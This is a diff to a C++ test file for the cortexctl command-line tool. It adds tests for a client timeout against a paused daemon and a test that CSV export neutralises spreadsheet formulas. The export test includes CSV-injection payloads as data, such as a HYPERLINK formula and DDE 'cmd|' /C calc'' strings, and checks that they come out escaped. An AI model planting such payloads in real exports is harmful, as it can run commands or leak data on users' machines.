@@ -11,9 +11,13 @@
 #include <unistd.h>
 
 #include <algorithm>
+#include <chrono>
 #include <filesystem>
 #include <fstream>
+#include <map>
+#include <set>
 #include <sstream>
+#include <thread>
 
 #include "cortex/client.h"
 #include "testutil.h"
@@ -826,6 +830,9 @@ TEST(CliTest, CompletionScriptsComeFromTheCommandDefinitions) {
   EXPECT_EQ(complete("cortexctl history --outcome can"), "cancelled\n");
   EXPECT_EQ(complete("cortexctl export --format c"), "csv\n");
   EXPECT_NE(complete("cortexctl submit --").find("--no-repo"), std::string::npos);
+  // The global --timeout (issue 24), and a command after its value.
+  EXPECT_EQ(complete("cortexctl --ti"), "--timeout\n");
+  EXPECT_EQ(complete("cortexctl --timeout 5 stat"), "status\n");
   // zsh and fish, where installed, accept their scripts.
   for (const char* shell : {"zsh", "fish"}) {
     if (test::RunCmd({"sh", "-c", std::string("command -v ") + shell}).code != 0) {
@@ -841,6 +848,283 @@ TEST(CliTest, CompletionScriptsComeFromTheCommandDefinitions) {
         test::RunCmd({"fish", "-c", "source " + dir / "cfish" + "; complete -C 'cortexctl hist'"});
     EXPECT_NE(r.out.find("history"), std::string::npos) << r.out << r.err;
   }
+}
+
+// A cortexctl run and how long it took, in seconds.
+std::pair<test::Run, double> Timed(const std::vector<std::string>& argv,
+                                   std::vector<std::string> env = test::BaseEnv()) {
+  const auto start = std::chrono::steady_clock::now();
+  test::Run r = test::RunCmd(argv, 40, "", std::move(env), "/");
+  return {r, std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count()};
+}
+
+// Issue 24 item 6: a cortexd that stops answering (SIGSTOP) held every cortexctl for ever.
+// A plain request now gives up after --timeout (CORTEX_TIMEOUT, default 10 s) with exit 3; a
+// wait after its own timeout and a grace, with exit 4; --follow's polls are bounded and it
+// goes on once cortexd is back; and cortexd, continued, is unharmed.
+TEST(CliTest, ADaemonThatStopsAnsweringIsGivenUpOn) {
+  TempDir dir;
+  Daemon d(dir, kSlowExperts);
+  ASSERT_TRUE(d.Start()) << d.Log();
+  const std::string running = d.CtlJson({"submit", "slow one"})["id"];
+  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
+  const std::string follow_out = dir / "follow.out", follow_err = dir / "follow.err";
+  const pid_t follower = fork();
+  if (follower == 0) {
+    FILE* o = freopen(follow_out.c_str(), "w", stdout);
+    FILE* e = freopen(follow_err.c_str(), "w", stderr);
+    (void)o, (void)e;
+    // (its polls bounded by CORTEX_TIMEOUT)
+    const char* env[] = {"PATH=/usr/bin:/bin", "CORTEX_TIMEOUT=1", nullptr};
+    execle(Cortexctl().c_str(), Cortexctl().c_str(), "--socket", d.socket.c_str(), "history",
+           "--follow", (char*)nullptr, env);
+    _exit(127);
+  }
+  struct Reap {  // the follower ends with the test, however it ends
+    pid_t pid;
+    ~Reap() {
+      kill(pid, SIGTERM);
+      waitpid(pid, nullptr, 0);
+    }
+  } reap{follower};
+  ASSERT_TRUE(test::Eventually([&] { return !test::ReadFile(follow_out).empty(); }));
+  sleep(1);  // (its first poll)
+
+  ASSERT_EQ(kill(d.pid, SIGSTOP), 0);
+  const std::vector<std::string> ctl = {Cortexctl(), "--socket", d.socket};
+  auto with = [&](std::vector<std::string> args) {
+    std::vector<std::string> argv = ctl;
+    argv.insert(argv.end(), args.begin(), args.end());
+    return argv;
+  };
+  // As the issue ran it, with no option: a plain request gives up after the default 10 s.
+  auto [r, secs] = Timed(with({"status"}));
+  EXPECT_EQ(r.code, 3) << r.err;
+  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
+  EXPECT_GE(secs, 9.0);
+  EXPECT_LT(secs, 20.0);
+  // --timeout 2: exit 3 within a few seconds, saying so.
+  std::tie(r, secs) = Timed(with({"--timeout", "2", "status"}));
+  EXPECT_EQ(r.code, 3) << r.err;
+  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
+  EXPECT_GE(secs, 1.5);
+  EXPECT_LT(secs, 10.0);
+  // CORTEX_TIMEOUT sets it too; under --json the error is the one document.
+  std::vector<std::string> env = test::BaseEnv();
+  env.push_back("CORTEX_TIMEOUT=1");
+  std::tie(r, secs) = Timed(with({"show", running, "--json"}), env);
+  EXPECT_EQ(r.code, 3) << r.err;
+  EXPECT_LT(secs, 10.0);
+  const json error =
+      r.Json().is_object() ? r.Json().value("error", json::object()) : json::object();
+  EXPECT_EQ(error.value("code", ""), "unreachable") << r.out;
+  EXPECT_NE(error.value("message", "").find("cortexd does not answer"), std::string::npos) << r.out;
+  // A wait: its own timeout and a small grace, then exit 4 as for any wait that runs out.
+  std::tie(r, secs) = Timed(with({"wait", running, "--timeout", "1"}));
+  EXPECT_EQ(r.code, 4) << r.err;
+  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
+  EXPECT_LT(secs, 10.0);
+  // submit --wait too; the daemon takes the submit in once it runs again, and runs it.
+  std::tie(r, secs) = Timed(with({"submit", "quick taken in late", "--wait", "--timeout", "1"}));
+  EXPECT_EQ(r.code, 4) << r.err;
+  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("still runs"), std::string::npos) << r.err;
+  EXPECT_LT(secs, 10.0);
+  // --follow's polls are bounded: it says cortexd is away and keeps following.
+  EXPECT_TRUE(test::Eventually(
+      [&] { return test::ReadFile(follow_err).find("not answering") != std::string::npos; }, 20))
+      << test::ReadFile(follow_err);
+  EXPECT_EQ(waitpid(follower, nullptr, WNOHANG), 0) << "the follower is still running";
+
+  ASSERT_EQ(kill(d.pid, SIGCONT), 0);
+  // cortexd is unharmed: it answers, and the submit it took in late ran.
+  EXPECT_EQ(d.Ctl({"status"}).code, 0);
+  EXPECT_TRUE(test::Eventually([&] {
+    for (const auto& row : d.CtlJson({"history"}))
+      if (row.value("text", "") == "quick taken in late" && row.value("state", "") == "succeeded")
+        return true;
+    return false;
+  })) << d.CtlJson({"history"});
+  const std::string after = d.CtlJson({"submit", "quick after the pause", "--wait"})["id"];
+  EXPECT_TRUE(test::Eventually([&] {
+    return test::ReadFile(follow_out).find(after) != std::string::npos;
+  })) << test::ReadFile(follow_out);
+  EXPECT_EQ(d.Ctl({"cancel", running}).code, 0);
+}
+
+// The other side of item 6: a deadline must not cut off a request that legitimately takes
+// long on a cortexd that is alive. Waits get their own timeout (not --timeout); a reload
+// (or retrain, report, export, history) silent for longer than --timeout goes on while
+// cortexd answers a status request, and is given up on once that goes unanswered too.
+TEST(CliTest, LongRequestsOnALiveDaemonAreNotCutOff) {
+  TempDir dir;
+  Daemon d(dir, kSlowExperts, "router: {exploration: 0, seed: 1}\ntraining: {online: false}\n",
+           /*bundled=*/true, ", load_timeout: 6s");
+  ASSERT_TRUE(d.Start()) << d.Log();
+  const std::vector<std::string> ctl = {Cortexctl(), "--socket", d.socket, "--timeout", "1"};
+  auto with = [&](std::vector<std::string> args) {
+    std::vector<std::string> argv = ctl;
+    argv.insert(argv.end(), args.begin(), args.end());
+    return argv;
+  };
+  const std::string running = d.CtlJson({"submit", "slow one"})["id"];
+  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
+  // The wait runs its 3 s, past --timeout 1: cortexd's own answer, not "does not answer".
+  auto [r, secs] = Timed(with({"wait", running, "--timeout", "3"}));
+  EXPECT_EQ(r.code, 4) << r.err;
+  EXPECT_NE(r.err.find("is still running after 3s"), std::string::npos) << r.err;
+  EXPECT_GE(secs, 2.5);
+  std::tie(r, secs) = Timed(with({"submit", "slow two", "--wait", "--timeout", "2.5"}));
+  EXPECT_EQ(r.code, 4) << r.err;
+  EXPECT_NE(r.err.find(" is still routed after 2.5s"), std::string::npos) << r.err;
+  EXPECT_GE(secs, 2.0);
+  EXPECT_EQ(d.Ctl({"--timeout", "0", "status"}).code, 0);  // 0: no deadline at all
+
+  // A reload that finds a plugin hanging in its constructor answers once that load is
+  // refused, after plugins.load_timeout (6 s): not cut off at --timeout 2, cortexd answering
+  // status meanwhile. (2 s: room for a sanitized cortexd to answer status.)
+  auto reload = [&] {
+    return Timed({Cortexctl(), "--socket", d.socket, "--timeout", "2", "reload"});
+  };
+  auto add_hanging = [&](const std::string& name) {
+    const std::string to = d.plugin_dir + "/" + name;
+    fs::copy_file(test::TestPluginDir() + "/echo_hangs_on_load.so", to);
+    fs::permissions(to, fs::perms(0755), fs::perm_options::replace);
+  };
+  add_hanging("hang1.so");
+  std::tie(r, secs) = reload();
+  EXPECT_EQ(r.code, 0) << r.err;
+  EXPECT_NE(r.out.find("reloaded"), std::string::npos) << r.out;
+  EXPECT_GE(secs, 4.5) << "the reload was not a long one";
+  // cortexd stops answering in the middle of one: given up on, exit 3.
+  add_hanging("hang2.so");
+  std::thread stopper([&] {
+    usleep(2500000);
+    kill(d.pid, SIGSTOP);
+  });
+  std::tie(r, secs) = reload();
+  stopper.join();
+  EXPECT_EQ(r.code, 3) << r.err;
+  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("no answer to a status request either"), std::string::npos) << r.err;
+  EXPECT_LT(secs, 12.0);
+  kill(d.pid, SIGCONT);
+  EXPECT_EQ(d.Ctl({"status"}).code, 0);
+
+  // A bad --timeout or CORTEX_TIMEOUT is a usage error; --timeout goes before the command.
+  r = test::RunCmd(with({"--timeout", "soon", "status"}));
+  EXPECT_EQ(r.code, 2) << r.err;
+  EXPECT_NE(r.err.find("--timeout: expected seconds"), std::string::npos) << r.err;
+  std::vector<std::string> env = test::BaseEnv();
+  env.push_back("CORTEX_TIMEOUT=-1");
+  r = test::RunCmd({Cortexctl(), "--socket", d.socket, "status"}, 30, "", env);
+  EXPECT_EQ(r.code, 2) << r.err;
+  EXPECT_NE(r.err.find("CORTEX_TIMEOUT: expected seconds"), std::string::npos) << r.err;
+  r = d.Ctl({"status", "--timeout", "2"});
+  EXPECT_EQ(r.code, 2) << r.err;
+  EXPECT_NE(r.err.find("--timeout goes before the command"), std::string::npos) << r.err;
+  EXPECT_EQ(d.Ctl({"cancel", running}).code, 0);
+}
+
+// RFC 4180 CSV into rows of cells.
+std::vector<std::vector<std::string>> ParseCsv(const std::string& s) {
+  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
+  bool quoted = false;
+  for (size_t i = 0; i < s.size(); ++i) {
+    const char c = s[i];
+    std::string& cell = rows.back().back();
+    if (quoted) {
+      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"')
+        cell += '"', ++i;
+      else if (c == '"')
+        quoted = false;
+      else
+        cell += c;
+    } else if (c == '"') {
+      quoted = true;
+    } else if (c == ',') {
+      rows.back().emplace_back();
+    } else if (c == '\n') {
+      rows.emplace_back(1);
+    } else {
+      cell += c;
+    }
+  }
+  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
+  return rows;
+}
+
+// Issue 24 item 8: a task text such as =HYPERLINK(...) came out of `export --format csv`
+// as a cell a spreadsheet runs as a formula. Every text cell that starts with = + - @, a
+// tab, a carriage return or a line feed now gets a leading ' (OWASP's rule), in every text
+// column; a number stays a number; jsonl keeps the text exact.
+TEST(CliTest, CsvExportCarriesNoFormulas) {
+  TempDir dir;
+  // An expert whose name starts with '-': the expert column is text too.
+  Daemon d(dir, "experts:\n  - {name: \"-cat\", plugin: command, run: [\"cat\"]}\n",
+           "router: {exploration: 0, seed: 1}\ntraining: {online: false}\n", /*bundled=*/false);
+  ASSERT_TRUE(d.Start()) << d.Log();
+  const std::vector<std::string> formulas = {"=HYPERLINK(\"http://x\"&A1,\"click\") echo",
+                                             "+1+cmd|' /C calc'!A0",
+                                             "-2+3+cmd|' /C calc'!A0",
+                                             "@SUM(A1:A2)",
+                                             "\t=1+1",
+                                             "\r=1+1",
+                                             "\n=1+1",
+                                             "-dash",
+                                             "'=already quoted"};
+  const std::vector<std::string> plain = {"-5", "+3.25", "-1e3", "plain, with \"quotes\" =x"};
+  std::vector<std::string> all = formulas;
+  all.insert(all.end(), plain.begin(), plain.end());
+  for (const auto& t : all) {  // (from stdin: "-5" would be read as an option)
+    test::Run r = test::RunCmd({Cortexctl(), "--socket", d.socket, "submit", "-", "--wait"}, 60, t,
+                               test::BaseEnv(), "/");
+    ASSERT_EQ(r.code, 0) << t << ": " << r.err;
+  }
+  test::Run r = d.Ctl({"export", "--format", "csv"});
+  ASSERT_EQ(r.code, 0) << r.err;
+  auto rows = ParseCsv(r.out);
+  ASSERT_EQ(rows.size(), all.size() + 1) << r.out;
+  const std::vector<std::string>& head = rows[0];
+  auto col = [&](const std::string& name) {
+    return static_cast<size_t>(std::find(head.begin(), head.end(), name) - head.begin());
+  };
+  const size_t text = col("text"), expert = col("expert"), confidence = col("confidence");
+  ASSERT_LT(text, head.size()) << r.out;
+  std::map<std::string, std::vector<std::string>> by_text;
+  for (size_t i = 1; i < rows.size(); ++i) {
+    ASSERT_EQ(rows[i].size(), head.size()) << r.out;
+    by_text[rows[i][text]] = rows[i];
+    // No cell anywhere starts a formula, unless it is a number.
+    for (const auto& cell : rows[i]) {
+      if (cell.empty() || std::string("=+-@\t\r\n").find(cell[0]) == std::string::npos) continue;
+      char* end = nullptr;
+      std::strtod(cell.c_str(), &end);
+      EXPECT_TRUE(end == cell.c_str() + cell.size()) << "cell '" << cell << "' starts a formula";
+    }
+    EXPECT_EQ(rows[i][expert], "'-cat") << r.out;
+    EXPECT_EQ(rows[i][col("feedback_quality")], "") << "no number: an empty cell";
+    char* end = nullptr;
+    std::strtod(rows[i][confidence].c_str(), &end);
+    EXPECT_EQ(*end, '\0') << "a number stays a number: " << rows[i][confidence];
+  }
+  for (const auto& t : formulas)
+    EXPECT_EQ(by_text.count("'" + t), 1u) << "'" << t << "'\n" << r.out;
+  for (const auto& t : plain) EXPECT_EQ(by_text.count(t), 1u) << t << "\n" << r.out;
+  // jsonl (and --json) keep every text exact.
+  r = d.Ctl({"export"});
+  ASSERT_EQ(r.code, 0) << r.err;
+  std::set<std::string> exact;
+  std::istringstream lines(r.out);
+  for (std::string line; std::getline(lines, line);) {
+    json row = json::parse(line);
+    exact.insert(row["text"].get<std::string>());
+    EXPECT_EQ(row["expert"], "-cat");
+  }
+  EXPECT_EQ(exact, std::set<std::string>(all.begin(), all.end()));
+  json doc = d.CtlJson({"export"});
+  ASSERT_EQ(doc.size(), all.size()) << doc;
+  for (const auto& row : doc) EXPECT_EQ(exact.count(row["text"].get<std::string>()), 1u) << row;
 }
 
 }  // namespace
